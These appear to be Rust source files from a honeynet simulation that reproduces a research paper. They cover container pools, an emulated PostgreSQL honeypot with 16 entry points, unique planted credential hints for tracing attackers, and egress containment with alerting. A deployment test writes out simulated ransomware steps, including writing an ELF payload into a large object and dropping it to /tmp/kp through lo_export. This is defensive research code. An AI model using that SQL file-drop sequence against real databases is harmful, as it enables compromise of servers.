    /// Services baked into the image, as `(service, port)`.
    pub services: Vec<(String, u16)>,
}

/// Lifecycle state of an instance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum InstanceState {
    Provisioned,
    Running,
    /// Traces being collected after compromise or TTL expiry.
    Collecting,
    Destroyed,
}

/// A running container (inside its QEMU wrapper).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Container {
    pub id: u64,
    pub image: String,
    pub state: InstanceState,
    pub started: SimTime,
    /// Maximum lifetime before forced recycling.
    pub ttl: SimDuration,
    /// Whether an attacker interacted with this instance.
    pub touched: bool,
    /// Collected trace count (commands observed).
    pub traces: u64,
}

impl Container {
    fn new(id: u64, image: &ContainerImage, now: SimTime, ttl: SimDuration) -> Container {
        Container {
            id,
            image: image.name.clone(),
            state: InstanceState::Running,
            started: now,
            ttl,
            touched: false,
            traces: 0,
        }
    }

    /// Whether the instance has outlived its TTL at `t`.
    pub fn expired(&self, t: SimTime) -> bool {
        t.saturating_since(self.started) >= self.ttl
    }

    /// Record attacker interaction.
    pub fn touch(&mut self) {
        self.touched = true;
        self.traces += 1;
    }
}

/// Pool statistics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PoolStats {
    pub provisioned: u64,
    pub recycled: u64,
    pub traces_collected: u64,
}

/// An auto-scaling pool of short-lived instances of one image.
///
/// "Multiple instances of the database are scaled using Linux containers to
/// cast a wide net" (§IV-C).
#[derive(Debug)]
pub struct ContainerPool {
    image: ContainerImage,
    target_size: usize,
    ttl: SimDuration,
    instances: Vec<Container>,
    next_id: u64,
    stats: PoolStats,
}

impl ContainerPool {
    pub fn new(image: ContainerImage, target_size: usize, ttl: SimDuration, now: SimTime) -> Self {
        let mut pool = ContainerPool {
            image,
            target_size,
            ttl,
            instances: Vec::with_capacity(target_size),
            next_id: 0,
            stats: PoolStats::default(),
        };
        pool.scale_to_target(now);
        pool
    }

    fn scale_to_target(&mut self, now: SimTime) {
        while self.running_count() < self.target_size {
            let c = Container::new(self.next_id, &self.image, now, self.ttl);
            self.next_id += 1;
            self.stats.provisioned += 1;
            self.instances.push(c);
        }
    }

    /// Number of running instances.
    pub fn running_count(&self) -> usize {
        self.instances
            .iter()
            .filter(|c| c.state == InstanceState::Running)
            .count()
    }

    /// Borrow a running instance by index (round-robin by id).
    pub fn running_mut(&mut self) -> impl Iterator<Item = &mut Container> {
        self.instances
            .iter_mut()
            .filter(|c| c.state == InstanceState::Running)
    }

    /// Get a specific instance.
    pub fn get_mut(&mut self, id: u64) -> Option<&mut Container> {
        self.instances.iter_mut().find(|c| c.id == id)
    }

    /// Periodic maintenance: recycle expired or compromised ("touched")
    /// instances — collect traces, destroy, reprovision from the immutable
    /// image — keeping the pool at target size.
    pub fn tick(&mut self, now: SimTime) -> usize {
        let mut recycled = 0;
        for c in &mut self.instances {
            if c.state == InstanceState::Running && (c.expired(now) || c.touched) {
                c.state = InstanceState::Collecting;
                self.stats.traces_collected += c.traces;
                c.state = InstanceState::Destroyed;
                self.stats.recycled += 1;
                recycled += 1;
            }
        }
        self.instances
            .retain(|c| c.state != InstanceState::Destroyed);
        self.scale_to_target(now);
        recycled
    }

    /// Grow or shrink the target size (auto-scaling to "simulate a
    /// distributed federation of databases").
    pub fn set_target_size(&mut self, target: usize, now: SimTime) {
        self.target_size = target;
        self.scale_to_target(now);
    }

    pub fn stats(&self) -> PoolStats {
        self.stats
    }

    pub fn image(&self) -> &ContainerImage {
        &self.image
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vrt::SnapshotRepo;

    fn image() -> ContainerImage {
        let repo = SnapshotRepo::with_debian_history();
        let snapshot = repo
            .resolve(SimTime::from_date(2019, 6, 1), &["postgresql"])
            .unwrap();
        ContainerImage {
            name: "pg-honeypot".into(),
            snapshot,
            services: vec![("postgresql".into(), 5432)],
        }
    }

    #[test]
    fn pool_reaches_target() {
        let pool = ContainerPool::new(image(), 4, SimDuration::from_hours(6), SimTime::EPOCH);
        assert_eq!(pool.running_count(), 4);
        assert_eq!(pool.stats().provisioned, 4);
    }

    #[test]
    fn ttl_recycling_reprovisions() {
        let mut pool = ContainerPool::new(image(), 2, SimDuration::from_hours(1), SimTime::EPOCH);
        let recycled = pool.tick(SimTime::from_secs(3_601));
        assert_eq!(recycled, 2);
        assert_eq!(pool.running_count(), 2, "fresh instances provisioned");
        assert_eq!(pool.stats().recycled, 2);
        assert_eq!(pool.stats().provisioned, 4);
    }

    #[test]
    fn touched_instances_recycled_early() {
        let mut pool = ContainerPool::new(image(), 2, SimDuration::from_hours(6), SimTime::EPOCH);
        let id = pool.running_mut().next().unwrap().id;
        pool.get_mut(id).unwrap().touch();
        pool.get_mut(id).unwrap().touch();
        let recycled = pool.tick(SimTime::from_secs(10));
        assert_eq!(recycled, 1, "only the touched instance recycled");
        assert_eq!(pool.stats().traces_collected, 2);
        assert!(pool.get_mut(id).is_none(), "touched instance destroyed");
    }

    #[test]
    fn auto_scaling() {
        let mut pool = ContainerPool::new(image(), 2, SimDuration::from_hours(6), SimTime::EPOCH);
        pool.set_target_size(8, SimTime::from_secs(0));
        assert_eq!(pool.running_count(), 8);
        // Shrinking does not kill running instances (graceful drain would
        // be a policy decision); target only governs reprovisioning.
        pool.set_target_size(2, SimTime::from_secs(1));
        assert_eq!(pool.running_count(), 8);
    }

    #[test]
    fn image_is_immutable_across_recycles() {
        let mut pool = ContainerPool::new(image(), 1, SimDuration::from_hours(1), SimTime::EPOCH);
        let v0 = pool
            .image()
            .snapshot
            .version_of("postgresql")
            .unwrap()
            .to_string();
        pool.tick(SimTime::from_secs(7_200));
        assert_eq!(pool.image().snapshot.version_of("postgresql").unwrap(), v0);
    }
}
