//! Honeynet deployment: entry points, forwarding, and session handling.
//!
//! §IV-C: "We allocated a dedicated /24 IP space containing sixteen entry
//! points to such a database. Each entry point is a Virtual Machine that
//! forwards incoming traffic to an isolated container containing the
//! vulnerable or semi-open database."
//!
//! The deployment owns the emulated services and converts attacker session
//! activity into the **observable action stream**: every command yields the
//! `Db`/`FileOp`/`Flow` actions that the monitors will see once scheduled
//! into the engine.

use std::net::Ipv4Addr;

use simnet::action::{Action, DbAction, DbCommandKind, FileOp, FileOpAction};
use simnet::addr::Cidr;
use simnet::flow::{ConnState, Flow, FlowId, Service};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};
use simnet::topology::{HostId, HostRole, Topology, Zone};

use crate::container::{ContainerImage, ContainerPool};
use crate::isolation::OverlayNetwork;
use crate::postgres::PostgresEmulator;
use crate::service::{Credential, ServiceEvent, SessionCtx, VulnerableService};
use crate::vrt::SnapshotRepo;

/// Deployment parameters.
#[derive(Debug, Clone)]
pub struct DeployConfig {
    /// Which /24 of the production /16 hosts the honeynet.
    pub honeynet_octet: u64,
    /// Number of entry-point VMs (the paper uses sixteen).
    pub entry_points: usize,
    /// PostgreSQL version to emulate (VRT-resolved).
    pub pg_version: String,
    /// VRT build date for the container image.
    pub build_date: SimTime,
    /// Container TTL (short-lived instances).
    pub container_ttl: SimDuration,
    /// Extra accepted credentials (planted hints); the default
    /// `postgres:postgres` pair is always accepted.
    pub extra_credentials: Vec<Credential>,
}

impl Default for DeployConfig {
    fn default() -> Self {
        DeployConfig {
            honeynet_octet: 77,
            entry_points: 16,
            pg_version: "9.4.21".into(),
            build_date: SimTime::from_date(2019, 6, 1),
            container_ttl: SimDuration::from_hours(12),
            extra_credentials: Vec::new(),
        }
    }
}

/// Per-entry-point state.
struct Entry {
    container_host: HostId,
    service: PostgresEmulator,
}

/// Deployment statistics.
#[derive(Debug, Clone, Copy, Default)]
pub struct DeployStats {
    pub sessions_opened: u64,
    pub auth_successes: u64,
    pub auth_failures: u64,
    pub commands: u64,
    pub files_dropped: u64,
    pub egress_attempts: u64,
}

/// The deployed honeynet.
pub struct HoneynetDeployment {
    cidr: Cidr,
    entries: FxHashMap<Ipv4Addr, Entry>,
    entry_addrs: Vec<Ipv4Addr>,
    sessions: FxHashMap<(Ipv4Addr, Ipv4Addr), SessionCtx>,
    pool: ContainerPool,
    overlay: OverlayNetwork,
    next_flow: u64,
    stats: DeployStats,
}

impl HoneynetDeployment {
    /// Install the honeynet into a topology: entry-point VMs on the
    /// honeynet /24 plus one backing container host each (overlay
    /// addresses are private to the sandbox).
    pub fn install(topo: &mut Topology, cfg: &DeployConfig) -> HoneynetDeployment {
        let production = simnet::addr::ncsa_production();
        let cidr = production.subblock(cfg.honeynet_octet, 24);
        let repo = SnapshotRepo::with_debian_history();
        let snapshot = repo
            .resolve(cfg.build_date, &["postgresql"])
            .expect("VRT history covers the build date");
        let image = ContainerImage {
            name: format!("pg-honeypot-{}", cfg.pg_version),
            snapshot,
            services: vec![("postgresql".into(), 5432)],
        };
        let pool = ContainerPool::new(image, cfg.entry_points, cfg.container_ttl, cfg.build_date);
        let mut overlay = OverlayNetwork::new("10.77.0.0/16".parse().expect("static CIDR"));

        let mut creds = vec![Credential::new("postgres", "postgres")];
        creds.extend(cfg.extra_credentials.iter().cloned());

        let mut entries = FxHashMap::default();
        let mut entry_addrs = Vec::with_capacity(cfg.entry_points);
        for i in 0..cfg.entry_points {
            let addr = cidr.nth(i as u64 + 10);
            topo.add_host(
                format!("hpot-entry{:02}", i + 1),
                addr,
                Zone::Honeynet,
                HostRole::EntryPoint,
            );
            let ctr_addr = overlay.allocate();
            let container_host = topo.add_host(
                format!("hpot-ctr{:02}", i + 1),
                ctr_addr,
                Zone::Honeynet,
                HostRole::Database,
            );
            entries.insert(
                addr,
                Entry {
                    container_host,
                    service: PostgresEmulator::new(&cfg.pg_version, creds.clone()),
                },
            );
            entry_addrs.push(addr);
        }
        HoneynetDeployment {
            cidr,
            entries,
            entry_addrs,
            sessions: FxHashMap::default(),
            pool,
            overlay,
            next_flow: 0x4850_0000,
            stats: DeployStats::default(),
        }
    }

    /// The honeynet /24.
    pub fn cidr(&self) -> Cidr {
        self.cidr
    }

    /// Entry-point addresses, in order.
    pub fn entry_addrs(&self) -> &[Ipv4Addr] {
        &self.entry_addrs
    }

    pub fn stats(&self) -> DeployStats {
        self.stats
    }

    pub fn pool(&self) -> &ContainerPool {
        &self.pool
    }

    /// Periodic maintenance (recycle short-lived containers).
    pub fn tick(&mut self, now: SimTime) -> usize {
        self.pool.tick(now)
    }

    fn fresh_flow(&mut self, t: SimTime, src: Ipv4Addr, dst: Ipv4Addr, bytes: u64) -> Flow {
        self.next_flow += 1;
        Flow {
            id: FlowId(self.next_flow),
            start: t,
            duration: SimDuration::from_millis(200),
            src,
            src_port: 40_000 + (self.next_flow % 20_000) as u16,
            dst,
            dst_port: 5432,
            proto: simnet::flow::Proto::Tcp,
            state: ConnState::SF,
            service: Service::Postgres,
            orig_bytes: bytes,
            resp_bytes: 256,
        }
    }

    /// Attacker authentication against an entry point. Returns whether it
    /// succeeded plus the observable actions to schedule.
    pub fn db_connect(
        &mut self,
        t: SimTime,
        src: Ipv4Addr,
        entry: Ipv4Addr,
        user: &str,
        password: &str,
    ) -> (bool, Vec<(SimTime, Action)>) {
        let flow = self.fresh_flow(t, src, entry, 512);
        let Some(e) = self.entries.get_mut(&entry) else {
            return (false, Vec::new());
        };
        self.stats.sessions_opened += 1;
        let success = e.service.try_auth(user, password);
        if success {
            self.stats.auth_successes += 1;
            self.sessions.insert(
                (src, entry),
                SessionCtx {
                    user: Some(user.to_string()),
                    commands: 0,
                },
            );
        } else {
            self.stats.auth_failures += 1;
        }
        let container_host = e.container_host;
        let action = Action::Db(DbAction {
            flow,
            target: Some(container_host),
            user: user.to_string(),
            command: DbCommandKind::Auth { success },
            statement: format!("auth {user}"),
        });
        (success, vec![(t, action)])
    }

    /// Attacker command in an open session. Returns the protocol reply and
    /// the observable actions to schedule.
    pub fn db_command(
        &mut self,
        t: SimTime,
        src: Ipv4Addr,
        entry: Ipv4Addr,
        command: &str,
    ) -> (Option<String>, Vec<(SimTime, Action)>) {
        let Some(session_key) = self.sessions.get(&(src, entry)).map(|_| (src, entry)) else {
            return (None, Vec::new());
        };
        let flow = self.fresh_flow(t, src, entry, command.len() as u64 + 64);
        let e = self.entries.get_mut(&entry).expect("session implies entry");
        let mut session = self.sessions.remove(&session_key).expect("checked above");
        let user = session.user.clone().unwrap_or_default();
        let outcome = e.service.execute(&mut session, command);
        self.sessions.insert(session_key, session);
        self.stats.commands += 1;
        // Mark a backing container as touched for early recycling
        // (containers are fungible behind the forwarder).
        if let Some(c) = self.pool.running_mut().next() {
            c.touch();
        }

        let container_host = e.container_host;
        let mut actions: Vec<(SimTime, Action)> = Vec::with_capacity(outcome.events.len());
        for ev in &outcome.events {
            match ev {
                ServiceEvent::Db { command, statement } => {
                    actions.push((
                        t,
                        Action::Db(DbAction {
                            flow: flow.clone(),
                            target: Some(container_host),
                            user: user.clone(),
                            command: command.clone(),
                            statement: statement.clone(),
                        }),
                    ));
                }
                ServiceEvent::FileDropped { path, process } => {
                    self.stats.files_dropped += 1;
                    actions.push((
                        t + SimDuration::from_millis(50),
                        Action::FileOp(FileOpAction {
                            host: container_host,
                            user: user.clone(),
                            path: path.clone(),
                            op: FileOp::Create,
                            process: process.clone(),
                        }),
                    ));
                }
                ServiceEvent::EgressAttempt { dst, port } => {
                    self.stats.egress_attempts += 1;
                    self.next_flow += 1;
                    let egress = Flow::probe(FlowId(self.next_flow), t, entry, *dst, *port);
                    actions.push((t + SimDuration::from_millis(80), Action::Flow(egress)));
                }
                ServiceEvent::CommandExecuted { cmdline } => {
                    actions.push((
                        t + SimDuration::from_millis(60),
                        Action::Exec(simnet::action::ExecAction {
                            host: container_host,
                            user: user.clone(),
                            pid: (self.next_flow & 0xFFFF) as u32,
                            ppid: 1,
                            exe: "/bin/sh".into(),
                            cmdline: cmdline.clone(),
                        }),
                    ));
                }
            }
        }
        (Some(outcome.reply), actions)
    }

    /// Overlay allocation count (diagnostics).
    pub fn overlay_allocated(&self) -> u64 {
        self.overlay.allocated()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::topology::NcsaTopologyBuilder;

    fn deployed() -> (Topology, HoneynetDeployment) {
        let mut topo = NcsaTopologyBuilder::default().build();
        let dep = HoneynetDeployment::install(&mut topo, &DeployConfig::default());
        (topo, dep)
    }

    #[test]
    fn sixteen_entry_points_on_the_slash24() {
        let (topo, dep) = deployed();
        assert_eq!(dep.entry_addrs().len(), 16);
        for addr in dep.entry_addrs() {
            assert!(dep.cidr().contains(*addr));
            let host = topo
                .host_by_addr(*addr)
                .expect("entry registered in topology");
            assert_eq!(host.role, HostRole::EntryPoint);
            assert_eq!(host.zone, Zone::Honeynet);
        }
        assert_eq!(dep.overlay_allocated(), 16);
    }

    #[test]
    fn default_credentials_work_wrong_ones_fail() {
        let (_topo, mut dep) = deployed();
        let entry = dep.entry_addrs()[0];
        let src: Ipv4Addr = "111.200.1.1".parse().unwrap();
        let (ok, actions) =
            dep.db_connect(SimTime::from_secs(0), src, entry, "postgres", "postgres");
        assert!(ok);
        assert_eq!(actions.len(), 1);
        match &actions[0].1 {
            Action::Db(d) => assert!(matches!(d.command, DbCommandKind::Auth { success: true })),
            other => panic!("unexpected {other:?}"),
        }
        let (ok, _) = dep.db_connect(SimTime::from_secs(1), src, entry, "postgres", "wrong");
        assert!(!ok);
        assert_eq!(dep.stats().auth_failures, 1);
    }

    #[test]
    fn ransomware_steps_produce_observable_actions() {
        let (_topo, mut dep) = deployed();
        let entry = dep.entry_addrs()[0];
        let src: Ipv4Addr = "111.200.1.1".parse().unwrap();
        dep.db_connect(SimTime::from_secs(0), src, entry, "postgres", "postgres");
        // Step 1: version recon.
        let (reply, actions) =
            dep.db_command(SimTime::from_secs(1), src, entry, "SHOW server_version_num");
        assert_eq!(reply.as_deref(), Some("90421"));
        assert_eq!(actions.len(), 1);
        // Step 2: ELF payload into a largeobject.
        let stmt = format!(
            "SELECT lo_from_bytea(0, decode('7f454c46{}','hex'))",
            "00".repeat(64)
        );
        let (_, actions) = dep.db_command(SimTime::from_secs(2), src, entry, &stmt);
        assert!(actions.iter().any(|(_, a)| matches!(
            a,
            Action::Db(d) if matches!(&d.command, DbCommandKind::LargeObjectWrite { hex_prefix, .. } if hex_prefix == "7F454C46")
        )));
        // Step 3: lo_export drops /tmp/kp → Db action + FileOp action.
        let (_, actions) = dep.db_command(
            SimTime::from_secs(3),
            src,
            entry,
            "SELECT lo_export(16384, '/tmp/kp')",
        );
        assert!(actions
            .iter()
            .any(|(_, a)| matches!(a, Action::FileOp(f) if f.path == "/tmp/kp")));
        assert_eq!(dep.stats().files_dropped, 1);
        assert_eq!(dep.stats().commands, 3);
    }

    #[test]
    fn commands_without_session_rejected() {
        let (_topo, mut dep) = deployed();
        let entry = dep.entry_addrs()[0];
        let src: Ipv4Addr = "111.200.1.1".parse().unwrap();
        let (reply, actions) = dep.db_command(SimTime::from_secs(0), src, entry, "SELECT 1");
        assert!(reply.is_none());
        assert!(actions.is_empty());
    }

    #[test]
    fn touched_containers_recycle_on_tick() {
        let (_topo, mut dep) = deployed();
        let entry = dep.entry_addrs()[0];
        let src: Ipv4Addr = "111.200.1.1".parse().unwrap();
        dep.db_connect(SimTime::from_secs(0), src, entry, "postgres", "postgres");
        dep.db_command(SimTime::from_secs(1), src, entry, "SELECT 1");
        let recycled = dep.tick(SimTime::from_secs(2));
        assert_eq!(recycled, 1, "touched container recycled early");
        assert_eq!(
            dep.pool().running_count(),
            16,
            "pool reprovisioned to target"
        );
    }
}
