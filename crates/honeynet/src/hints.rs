//! Attacker attraction: leaked credential hints.
//!
//! §IV-B: "we attract attackers by publicly advertising default or
//! user-generated access credentials ... These 'hints' (credentials,
//! database URL, and path) are accidentally published online via various
//! channels such as social media or git. ... The use of unique
//! user-generated access credentials (keys) allows us to trace an
//! individual attacker's tactics."
//!
//! Each channel gets a *unique* secret, so when a secret shows up at the
//! honeypot, the deployment knows which leak the attacker read.

use serde::{Deserialize, Serialize};
use simnet::rng::{FxHashMap, SimRng};

use crate::service::Credential;

/// Where a hint was planted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum LeakChannel {
    Git,
    SocialMedia,
    Pastebin,
    FederatedIdentity,
}

impl LeakChannel {
    pub const ALL: [LeakChannel; 4] = [
        LeakChannel::Git,
        LeakChannel::SocialMedia,
        LeakChannel::Pastebin,
        LeakChannel::FederatedIdentity,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            LeakChannel::Git => "git",
            LeakChannel::SocialMedia => "social-media",
            LeakChannel::Pastebin => "pastebin",
            LeakChannel::FederatedIdentity => "federated-identity",
        }
    }
}

/// A planted hint.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Hint {
    pub channel: LeakChannel,
    pub credential: Credential,
    /// The advertised endpoint, e.g. `postgresql://141.142.77.10:5432/science`.
    pub service_url: String,
}

/// Generates and tracks hints; attributes observed secrets to channels.
#[derive(Debug)]
pub struct HintPublisher {
    hints: Vec<Hint>,
    by_secret: FxHashMap<String, LeakChannel>,
}

impl HintPublisher {
    pub fn new() -> HintPublisher {
        HintPublisher {
            hints: Vec::new(),
            by_secret: FxHashMap::default(),
        }
    }

    /// Plant one unique credential per channel for a service URL. The
    /// secret embeds a per-channel random token so collisions across
    /// channels are (deterministically, per seed) impossible.
    pub fn plant_all(&mut self, rng: &mut SimRng, user: &str, service_url: &str) -> Vec<Hint> {
        LeakChannel::ALL
            .iter()
            .map(|&channel| self.plant(rng, channel, user, service_url))
            .collect()
    }

    /// Plant a hint on one channel.
    pub fn plant(
        &mut self,
        rng: &mut SimRng,
        channel: LeakChannel,
        user: &str,
        service_url: &str,
    ) -> Hint {
        let token = rng.range_u64(0, u64::MAX - 1);
        let secret = format!("{}-{}-{:016x}", user, channel.as_str(), token);
        let hint = Hint {
            channel,
            credential: Credential::new(user, secret.clone()),
            service_url: service_url.to_string(),
        };
        self.by_secret.insert(secret, channel);
        self.hints.push(hint.clone());
        hint
    }

    /// All planted hints.
    pub fn hints(&self) -> &[Hint] {
        &self.hints
    }

    /// Credentials to configure the honeypot services with.
    pub fn credentials(&self) -> Vec<Credential> {
        self.hints.iter().map(|h| h.credential.clone()).collect()
    }

    /// Attribute an observed secret to its leak channel — the tracing
    /// mechanism of §IV-B.
    pub fn attribute(&self, secret: &str) -> Option<LeakChannel> {
        self.by_secret.get(secret).copied()
    }
}

impl Default for HintPublisher {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unique_secret_per_channel() {
        let mut rng = SimRng::seed(7);
        let mut pub_ = HintPublisher::new();
        let hints = pub_.plant_all(&mut rng, "svcbackup", "postgresql://141.142.77.10:5432/x");
        assert_eq!(hints.len(), 4);
        let mut secrets: Vec<_> = hints.iter().map(|h| h.credential.secret.clone()).collect();
        secrets.sort();
        secrets.dedup();
        assert_eq!(secrets.len(), 4, "secrets must be channel-unique");
    }

    #[test]
    fn attribution_roundtrip() {
        let mut rng = SimRng::seed(8);
        let mut pub_ = HintPublisher::new();
        let git = pub_.plant(&mut rng, LeakChannel::Git, "svcbackup", "ssh://login01");
        let paste = pub_.plant(
            &mut rng,
            LeakChannel::Pastebin,
            "svcbackup",
            "ssh://login01",
        );
        assert_eq!(
            pub_.attribute(&git.credential.secret),
            Some(LeakChannel::Git)
        );
        assert_eq!(
            pub_.attribute(&paste.credential.secret),
            Some(LeakChannel::Pastebin)
        );
        assert_eq!(pub_.attribute("never-planted"), None);
    }

    #[test]
    fn deterministic_per_seed() {
        let plant = |seed| {
            let mut rng = SimRng::seed(seed);
            let mut p = HintPublisher::new();
            p.plant(&mut rng, LeakChannel::Git, "u", "url")
                .credential
                .secret
        };
        assert_eq!(plant(1), plant(1));
        assert_ne!(plant(1), plant(2));
    }

    #[test]
    fn credentials_configure_services() {
        let mut rng = SimRng::seed(9);
        let mut pub_ = HintPublisher::new();
        pub_.plant_all(&mut rng, "postgres", "postgresql://x");
        let creds = pub_.credentials();
        assert_eq!(creds.len(), 4);
        assert!(creds.iter().all(|c| c.user == "postgres"));
    }
}
