//! Honeynet isolation: egress containment and the overlay network.
//!
//! §IV-C: containers run "in a network sandbox that implemented a Layer-3
//! private overlay network on a separated CIDR block", with iptables rules
//! that "monitor all new outgoing connections and drop them before their
//! packets were routed to the Internet."

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::addr::Cidr;
use simnet::flow::Flow;
use simnet::router::{DropReason, RouteDecision, RouteFilter};
use simnet::time::SimTime;

/// The egress firewall: drops new outbound connections from the honeynet
/// unless whitelisted, and logs every drop for alerting.
#[derive(Debug, Clone)]
pub struct EgressFirewall {
    /// Source range under containment (the honeynet segment + overlay).
    contained: Vec<Cidr>,
    /// Destinations that are always allowed (e.g. the log collector).
    allow: Vec<(Cidr, Option<u16>)>,
    drops: u64,
}

/// A logged egress drop.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EgressDrop {
    pub ts: SimTime,
    pub src: Ipv4Addr,
    pub dst: Ipv4Addr,
    pub port: u16,
}

impl EgressFirewall {
    pub fn new(contained: Vec<Cidr>) -> EgressFirewall {
        EgressFirewall {
            contained,
            allow: Vec::new(),
            drops: 0,
        }
    }

    /// Allow traffic to a destination block (optionally one port).
    pub fn allow(&mut self, dst: Cidr, port: Option<u16>) -> &mut Self {
        self.allow.push((dst, port));
        self
    }

    fn is_contained(&self, addr: Ipv4Addr) -> bool {
        self.contained.iter().any(|c| c.contains(addr))
    }

    fn is_allowed(&self, dst: Ipv4Addr, port: u16) -> bool {
        self.allow
            .iter()
            .any(|(c, p)| c.contains(dst) && p.is_none_or(|pp| pp == port))
    }

    /// Whether a flow from the honeynet should be dropped. Replies *into*
    /// the honeynet are never dropped — only new outbound connections.
    pub fn should_drop(&self, flow: &Flow) -> bool {
        self.is_contained(flow.src)
            && !self.is_contained(flow.dst)
            && !self.is_allowed(flow.dst, flow.dst_port)
    }

    pub fn drops(&self) -> u64 {
        self.drops
    }
}

impl RouteFilter for EgressFirewall {
    fn check(&mut self, _t: SimTime, flow: &Flow) -> RouteDecision {
        if self.should_drop(flow) {
            self.drops += 1;
            RouteDecision::Drop(DropReason::EgressContainment)
        } else {
            RouteDecision::Forward
        }
    }
}

/// The Layer-3 private overlay network allocating container addresses from
/// a dedicated CIDR block.
#[derive(Debug, Clone)]
pub struct OverlayNetwork {
    cidr: Cidr,
    next: u64,
}

impl OverlayNetwork {
    /// Create over a block; host addresses start at `.2` (`.1` is the
    /// gateway).
    pub fn new(cidr: Cidr) -> OverlayNetwork {
        OverlayNetwork { cidr, next: 2 }
    }

    pub fn cidr(&self) -> Cidr {
        self.cidr
    }

    /// Allocate the next container address.
    ///
    /// # Panics
    /// Panics when the block is exhausted.
    pub fn allocate(&mut self) -> Ipv4Addr {
        assert!(self.next < self.cidr.size() - 1, "overlay block exhausted");
        let a = self.cidr.nth(self.next);
        self.next += 1;
        a
    }

    /// Number of addresses handed out.
    pub fn allocated(&self) -> u64 {
        self.next - 2
    }
}

/// Telemetry monitor that raises a site notice whenever the egress
/// firewall drops a containment-violating flow. Symbolizes downstream to
/// `alert_egress_drop` — the signal that something inside the honeypot is
/// trying to call out (e.g. ransomware contacting its C2).
#[derive(Debug, Default)]
pub struct IsolationMonitor {
    drops_seen: u64,
}

impl IsolationMonitor {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn drops_seen(&self) -> u64 {
        self.drops_seen
    }
}

impl telemetry::monitor::Monitor for IsolationMonitor {
    fn name(&self) -> &'static str {
        "isolation"
    }

    fn observe(
        &mut self,
        ctx: &simnet::engine::EventCtx<'_>,
        action: &simnet::action::Action,
        out: &mut Vec<telemetry::record::LogRecord>,
    ) {
        if !matches!(ctx.dropped, Some(DropReason::EgressContainment)) {
            return;
        }
        let Some(flow) = action.flow() else { return };
        self.drops_seen += 1;
        out.push(telemetry::record::LogRecord::Notice(
            telemetry::record::NoticeRecord {
                ts: ctx.time,
                note: telemetry::record::NoticeKind::Custom("alert_egress_drop".into()),
                msg: format!(
                    "egress containment dropped {} -> {}:{}",
                    flow.src, flow.dst, flow.dst_port
                )
                .into(),
                src: flow.src,
                dst: Some(flow.dst),
                sub: "honeynet isolation".into(),
            },
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;

    fn flow(src: &str, dst: &str, port: u16) -> Flow {
        Flow::established(
            FlowId(1),
            SimTime::from_secs(0),
            simnet::time::SimDuration::from_secs(1),
            src.parse().unwrap(),
            40_000,
            dst.parse().unwrap(),
            port,
            100,
            100,
        )
    }

    fn honeynet_cidr() -> Cidr {
        "141.142.77.0/24".parse().unwrap()
    }

    #[test]
    fn outbound_from_honeynet_dropped() {
        let mut fw = EgressFirewall::new(vec![honeynet_cidr()]);
        let f = flow("141.142.77.10", "194.145.1.1", 80);
        assert!(matches!(
            fw.check(SimTime::from_secs(0), &f),
            RouteDecision::Drop(DropReason::EgressContainment)
        ));
        assert_eq!(fw.drops(), 1);
    }

    #[test]
    fn inbound_and_intra_honeynet_allowed() {
        let mut fw = EgressFirewall::new(vec![honeynet_cidr()]);
        let inbound = flow("111.200.1.1", "141.142.77.10", 5432);
        assert_eq!(
            fw.check(SimTime::from_secs(0), &inbound),
            RouteDecision::Forward
        );
        let intra = flow("141.142.77.10", "141.142.77.11", 22);
        assert_eq!(
            fw.check(SimTime::from_secs(0), &intra),
            RouteDecision::Forward
        );
    }

    #[test]
    fn allowlist_respected() {
        let mut fw = EgressFirewall::new(vec![honeynet_cidr()]);
        fw.allow("192.168.100.0/24".parse().unwrap(), Some(514));
        let to_collector = flow("141.142.77.10", "192.168.100.3", 514);
        assert_eq!(
            fw.check(SimTime::from_secs(0), &to_collector),
            RouteDecision::Forward
        );
        let wrong_port = flow("141.142.77.10", "192.168.100.3", 80);
        assert!(matches!(
            fw.check(SimTime::from_secs(0), &wrong_port),
            RouteDecision::Drop(_)
        ));
    }

    #[test]
    fn overlay_allocates_unique_addresses() {
        let mut net = OverlayNetwork::new("10.77.0.0/24".parse().unwrap());
        let a = net.allocate();
        let b = net.allocate();
        assert_ne!(a, b);
        assert!(net.cidr().contains(a));
        assert_eq!(net.allocated(), 2);
        assert_eq!(a, "10.77.0.2".parse::<Ipv4Addr>().unwrap());
    }
}

#[cfg(test)]
mod monitor_tests {
    use super::*;
    use simnet::action::Action;
    use simnet::engine::EventCtx;
    use simnet::flow::{Direction, Flow, FlowId};
    use simnet::topology::NcsaTopologyBuilder;
    use telemetry::monitor::Monitor as _;

    #[test]
    fn isolation_monitor_raises_notice_on_egress_drop() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut mon = IsolationMonitor::new();
        let reason = DropReason::EgressContainment;
        let flow = Flow::probe(
            FlowId(1),
            SimTime::from_secs(5),
            "141.142.77.10".parse().unwrap(),
            "194.145.1.1".parse().unwrap(),
            443,
        );
        let ctx = EventCtx {
            time: SimTime::from_secs(5),
            direction: Direction::Outbound,
            dropped: Some(&reason),
            topo: &topo,
        };
        let mut out = Vec::new();
        mon.observe(&ctx, &Action::Flow(flow.clone()), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(mon.drops_seen(), 1);
        // Null-routed drops are not isolation events.
        let nr = DropReason::NullRouted { reason: "x".into() };
        let ctx2 = EventCtx {
            time: SimTime::from_secs(6),
            direction: Direction::Inbound,
            dropped: Some(&nr),
            topo: &topo,
        };
        mon.observe(&ctx2, &Action::Flow(flow), &mut out);
        assert_eq!(out.len(), 1);
    }
}
