//! # honeynet — the honeypot substrate
//!
//! Everything §IV deploys to attract and contain attackers:
//!
